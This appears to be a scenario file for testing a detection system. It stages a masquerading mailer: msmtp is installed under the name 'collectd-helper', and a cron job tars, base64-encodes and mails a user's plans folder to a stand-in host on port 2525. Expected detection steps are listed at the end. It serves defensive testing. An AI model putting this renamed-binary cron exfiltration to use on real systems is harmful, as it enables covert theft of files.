# A mailer under another name in a place of software, started by a job.
title="Renamed mailer in /opt started by a user's crontab"
what="ops copies the mailer to /opt/monitor/bin/collectd-helper (sudo install) and writes a small configuration; a crontab line of ops lets it send an encoded archive of /home/ops/plans to an address at example.net through 203.0.113.10 port 2525."
host=ws3.example.org user=ops daemons="cron sshd"

setup() {
  mkdir -p /home/ops/plans /home/ops/.config; head -c 90000 /dev/urandom > /home/ops/plans/site.dwg
  echo 'ops ALL=(root) NOPASSWD: /usr/bin/install' > /etc/sudoers.d/ops; chmod 440 /etc/sudoers.d/ops
  printf 'account default\nhost mail.example.net\nport 2525\nfrom plans@example.net\ntls off\nauth off\n' > /home/ops/.config/c.conf; chmod 600 /home/ops/.config/c.conf; chown -R ops: /home/ops
}
act() {
  small_talk 2
  ssh_as ops <<'L'
sudo install -D -m 755 /usr/bin/msmtp /opt/monitor/bin/collectd-helper
echo '* * * * * tar -C $HOME -czf - plans | base64 | /opt/monitor/bin/collectd-helper -C $HOME/.config/c.conf depot@example.net' | crontab -
L
  for _ in $(seq 1 150); do grep -q 'CMD.*collectd-helper' /var/log/recorded && break; sleep 0.5; done
  sleep 4
  crontab -u ops -r
}
truth() {
  exec_step install 'install -D -m 755 /usr/bin/msmtp' 'a mailer gets another name'
  log_step job 'CRON.*CMD.*collectd-helper' 'cron starts the job'
  exec_step pack 'tar -C /home/ops -czf' 'a folder is packed'
  net_step send 'collectd-helper 203.0.113.10:2525' 'and sent'
}
